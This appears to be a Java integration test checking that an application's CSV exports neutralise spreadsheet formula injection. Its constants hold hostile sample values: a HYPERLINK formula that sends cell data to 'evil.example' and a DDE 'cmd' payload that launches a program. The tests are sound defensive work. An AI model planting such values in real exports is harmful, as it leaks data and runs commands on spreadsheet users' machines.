package io.parkcredit.attack;

import static org.assertj.core.api.Assertions.assertThat;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import io.parkcredit.testing.Fixtures;
import io.quarkus.test.junit.QuarkusTest;
import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.Map;
import org.junit.jupiter.api.Test;

/**
 * Firm names and notes that a spreadsheet would evaluate as formulas ({@code = + - @}) are written
 * to the real CSV exports with a leading single quote: Excel shows them as text.
 */
@QuarkusTest
class CsvFormulaTest {

    static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")";
    static final String AT = "@SUM(1+1)*cmd|' /C calc'!A0";
    static final String PLUS = "+1+2";
    static final String MINUS = "-2+3";

    /** One enterprises.csv row; the name is quoted as RFC 4180 requires. */
    static String row(String uscc, String name, boolean inPark) {
        return uscc + ",\"" + name.replace("\"", "\"\"") + "\",2012-01-01,C3412,10000000,100,ACTIVE,李,13900139000,"
                + inPark + ",,5,0\n";
    }

    /** uscc → the record of that firm in a CSV export (BOM and header tolerated). */
    static Map<String, CsvRecord> byUscc(byte[] csv) {
        assertThat(csv[0]).isEqualTo((byte) 0xEF);
        Map<String, CsvRecord> rows = new HashMap<>();
        try (CsvReader<CsvRecord> reader = CsvReader.builder().detectBomHeader(true)
                .ofCsvRecord(new ByteArrayInputStream(csv), StandardCharsets.UTF_8)) {
            reader.forEach(r -> rows.put(r.getField(0), r));
        } catch (java.io.IOException e) {
            throw new IllegalStateException(e);
        }
        return rows;
    }

    @Test
    void theClassificationExportWritesFormulaNamesAsText() {
        Map<String, String> names = new LinkedHashMap<>();
        StringBuilder firms = new StringBuilder(Fixtures.ENTERPRISES_HEADER);
        for (String name : new String[] {HYPERLINK, AT, PLUS, MINUS}) {
            String uscc = Fixtures.newUscc();
            names.put(uscc, name);
            firms.append(row(uscc, name, true));
        }
        Fixtures.importBundle(Map.of("enterprises", firms.toString()));
        long runId = Fixtures.asAdmin().post("/api/classifications/2091/runs").then().statusCode(201).extract()
                .jsonPath().getLong("runId");
        byte[] csv = Fixtures.asAdmin().get("/api/classifications/2091/runs/" + runId + "/export?format=csv").then()
                .statusCode(200).extract().asByteArray();
        Map<String, CsvRecord> rows = byUscc(csv);
        assertThat(rows.get("uscc").getField(1)).isEqualTo("name");
        names.forEach((uscc, name) -> assertThat(rows.get(uscc).getField(1)).isEqualTo("'" + name));
    }

    @Test
    void theShortlistExportWritesFormulaNamesAndNotesAsText() {
        String prospect = Fixtures.newUscc();
        Fixtures.importBundle(Map.of("enterprises", Fixtures.ENTERPRISES_HEADER + row(prospect, HYPERLINK, false)));
        String officer = Fixtures.newUser("INVESTMENT", null, null);
        long id = Fixtures.asUser(officer).contentType("application/json").body(Map.of("limit", 100000))
                .post("/api/screenings").then().statusCode(200).extract().jsonPath().getLong("screeningId");
        Fixtures.asUser(officer).contentType("application/json").body(Map.of("uscc", prospect, "note", AT))
                .post("/api/screenings/" + id + "/shortlist").then().statusCode(200);
        byte[] csv = Fixtures.asUser(officer).get("/api/screenings/" + id + "/shortlist/export").then().statusCode(200)
                .extract().asByteArray();
        CsvRecord r = byUscc(csv).get(prospect);
        assertThat(r.getField(1)).isEqualTo("'" + HYPERLINK);
        assertThat(r.getField(5)).isEqualTo("'" + AT);
        // the same note is stored and answered unchanged by the API: only the spreadsheet file is neutralised
        assertThat(Fixtures.asUser(officer).get("/api/screenings/" + id + "/shortlist").then().statusCode(200)
                .extract().jsonPath().getString("find { it.uscc == '" + prospect + "' }.note")).isEqualTo(AT);
    }
}
